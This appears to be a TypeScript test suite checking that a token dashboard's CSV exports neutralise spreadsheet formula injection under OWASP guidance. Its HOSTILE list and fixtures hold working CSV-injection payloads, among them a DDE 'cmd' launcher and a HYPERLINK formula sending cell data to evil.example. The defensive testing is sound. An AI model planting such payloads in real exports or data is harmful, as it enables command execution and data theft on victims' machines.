import { activityCsvColumns, holderCsvColumns } from '@tokendesk/contract';
import { getAddress } from 'viem';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { poolEvents, pools, projects, tokenBalances } from '../../src/db/schema';
import { csvHex, csvNumber, csvOptionalNumber, csvText, csvTime, csvWord } from '../../src/lib/csv';
import { createTestContext, devnetChain, signUp, type TestContext, requesterAs } from '../helpers';
import { parseCsv } from '../support/csv';

/**
 * CSV exports follow OWASP's CSV-injection guidance on every cell (decision 0022): text is always
 * quoted, and no = + - @ tab CR can start a cell however a spreadsheet splits the row — on ',', on
 * ';' (the finding: symbol `x;=cmd|'/C calc'!A0` was exported bare), on '|', tab or space.
 * Numbers stay numbers, a negative one too.
 */

const FINDING = "x;=cmd|'/C calc'!A0";
const HOSTILE = [
  FINDING,
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+cmd',
  '-2+3',
  '\t=1',
  '\r=1',
  'a,=1',
  'a|@x',
  'a\t+x',
  'a b=c -d',
  'a;"=1"',
  "a;'=1",
  'a\n-1',
];
const TRIGGER = /^[=+\-@\t\r]/;
const SEPARATORS = [',', ';', '|', '\t', ' '];
const PLAIN_NUMBER = /^-?[0-9]+(\.[0-9]+)?$/;

/**
 * Every cell a spreadsheet could make of a line when it splits on `sep` and is naive about quotes:
 * split on the separator (and line breaks), then drop the quotes and spaces around each piece.
 */
function naiveCells(text: string, sep: string): string[] {
  return text.split(/\r\n|\n|\r/).flatMap((line) => line.split(sep).map((cell) => cell.replace(/^[" ]+/, '')));
}

/** Cells that a spreadsheet would evaluate: starting with a trigger and not a plain number. */
function formulaCells(text: string): string[] {
  return SEPARATORS.flatMap((sep) =>
    naiveCells(text, sep)
      .filter((c) => TRIGGER.test(c) && !PLAIN_NUMBER.test(c))
      .map((c) => `${JSON.stringify(sep)}: ${JSON.stringify(c)}`),
  );
}

describe('cells by column type', () => {
  it.each(HOSTILE)('text %j is quoted and starts no formula on any separator', (value) => {
    const cell = csvText(value);
    expect(cell.startsWith('"') && cell.endsWith('"')).toBe(true);
    expect(formulaCells(`${cell}\r\n`)).toEqual([]);
    // Nothing is lost: the value reads back with only apostrophes added.
    const [[back]] = parseCsv(`${cell}\r\n`) as [[string]];
    expect(back.replace(/'/g, '')).toBe(value.replace(/'/g, ''));
  });

  it('neutralises the finding exactly where a new cell would start', () => {
    expect(csvText(FINDING)).toBe(`"x;'=cmd|'/C calc'!A0"`);
    expect(csvText('=1+2')).toBe(`"'=1+2"`);
    expect(csvText('Uniswap V2')).toBe('"Uniswap V2"');
    expect(csvText('')).toBe('""');
    expect(csvText('say "hi"')).toBe('"say ""hi"""');
  });

  it('keeps numbers numbers, negative ones too, and makes anything else in a number column text', () => {
    expect(csvNumber('-5')).toBe('-5');
    expect(csvNumber('0.000001')).toBe('0.000001');
    expect(csvNumber(12n)).toBe('12');
    expect(csvNumber(7)).toBe('7');
    expect(csvNumber('-5+cmd')).toBe(`"'-5+cmd"`);
    expect(csvNumber('1e5')).toBe('"1e5"');
    expect(csvNumber('=1')).toBe(`"'=1"`);
    expect(csvOptionalNumber(null)).toBe('');
    expect(csvOptionalNumber('1.5')).toBe('1.5');
  });

  it('leaves hex, times and the server’s own words bare only when they are exactly that', () => {
    expect(csvHex('0xAbC123')).toBe('0xAbC123');
    expect(csvHex('0x12,=1')).toBe(`"0x12,'=1"`);
    expect(csvTime('2025-02-01T10:00:00.000Z')).toBe('2025-02-01T10:00:00.000Z');
    expect(csvTime('2025-02-01T10:00:00Z;=1')).toBe(`"2025-02-01T10:00:00Z;'=1"`);
    expect(csvWord('add_liquidity')).toBe('add_liquidity');
    expect(csvWord('pool deployer')).toBe('pool deployer');
    expect(csvWord('')).toBe('');
    expect(csvWord('-x')).toBe(`"'-x"`);
  });
});

describe('the exports', () => {
  let ctx: TestContext;
  let user: Awaited<ReturnType<typeof signUp>>;
  beforeAll(async () => {
    ctx = await createTestContext({}, { chain: devnetChain() });
    user = await signUp(ctx.app);
  });
  afterAll(async () => {
    await ctx.close();
  });

  const as = requesterAs(
    () => ctx.app,
    () => user.token,
  );
  const get = (url: string) => as('GET', url);
  const address = (n: number) => `0x${(0xc5f000 + n).toString(16).padStart(40, '0')}`;

  it('activity: hostile symbols and DEX names start no formula on any separator; amounts stay numbers', async () => {
    const [project] = await ctx.app.db
      .insert(projects)
      .values({
        userId: user.userId,
        networkId: 31337,
        contractAddress: address(1),
        name: 'Hostile',
        tokenSymbol: FINDING,
        tokenDecimal: 18,
      })
      .returning();
    const [pool] = await ctx.app.db
      .insert(pools)
      .values({
        projectId: project!.id,
        userId: user.userId,
        networkId: 31337,
        dexId: 'dex;@SUM(1)',
        tokenId: 'usdc',
        pairedTokenAddress: address(2),
        pairedTokenSymbol: '-2+3|=x',
        pairedTokenName: 'Paired',
        pairedTokenDecimals: 6,
        poolAddress: address(3),
        poolVersion: 'v2',
        fee: null,
        projectIsToken0: true,
      })
      .returning();
    await ctx.app.db.insert(poolEvents).values({
      networkId: 31337,
      poolAddress: pool!.poolAddress.toLowerCase(),
      txHash: `0x${'ab'.repeat(32)}`,
      logIndex: 0,
      blockNumber: 77n,
      blockTime: new Date('2025-02-01T10:00:00Z'),
      type: 'swap',
      amount0: (-(10n ** 18n)).toString(),
      amount1: (2n * 10n ** 6n).toString(),
      sqrtPriceX96: null,
    });

    const res = await get('projects/activity/export/?from=2025-01-01T00:00:00Z&to=2025-03-01T00:00:00Z');
    expect(res.statusCode, res.body).toBe(200);
    expect(formulaCells(res.body)).toEqual([]);
    expect(res.body).toContain(`"x;'=cmd|'/C calc'!A0"`);

    const rows = parseCsv(res.body);
    expect(rows[0]).toEqual([...activityCsvColumns]);
    const row = Object.fromEntries(activityCsvColumns.map((c, i) => [c, rows[1]![i]]));
    expect(row).toMatchObject({
      time: '2025-02-01T10:00:00.000Z',
      block: '77',
      dex: "dex;'@SUM(1)",
      kind: 'buy',
      amount_project_token: '1',
      project_symbol: "x;'=cmd|'/C calc'!A0",
      amount_token: '2',
      token_symbol: "'-2+3|'=x",
      price: '2',
    });
    // Numbers, hashes, times and kinds are bare; every text cell is quoted.
    const line = res.body.split('\r\n')[1]!;
    expect(line).toBe(
      `2025-02-01T10:00:00.000Z,77,0x${'ab'.repeat(32)},0,${getAddress(pool!.poolAddress)},"dex;'@SUM(1)",buy,1,"x;'=cmd|'/C calc'!A0",2,"'-2+3|'=x",2,,2`,
    );
  });

  it('holders: every cell typed; the notice line is quoted text', async () => {
    const [project] = await ctx.app.db
      .insert(projects)
      .values({
        userId: user.userId,
        networkId: 31337,
        contractAddress: address(10),
        name: 'Held',
        tokenSymbol: FINDING,
        tokenDecimal: 0,
      })
      .returning();
    await ctx.app.db.insert(tokenBalances).values([
      { networkId: 31337, tokenAddress: address(10).toLowerCase(), holder: address(11), balance: '700' },
      // The chain is untrusted input: were a holder ever stored as something else, it is text.
      { networkId: 31337, tokenAddress: address(10).toLowerCase(), holder: '0x12;=1+1', balance: '300' },
    ]);
    const res = await get(`projects/${project!.id}/holders/export/`);
    expect(res.statusCode, res.body).toBe(200);
    expect(formulaCells(res.body)).toEqual([]);
    const lines = res.body.split('\r\n');
    expect(lines[0]).toMatch(/^"# Not checked against the chain yet/);
    expect(lines[1]).toBe(holderCsvColumns.join(','));
    expect(lines[2]).toMatch(new RegExp(`^1,${getAddress(address(11))},700,700,70\\.00,$`));
    expect(lines[3]).toBe(`2,"0x12;'=1+1",300,300,30.00,`);
  });
});
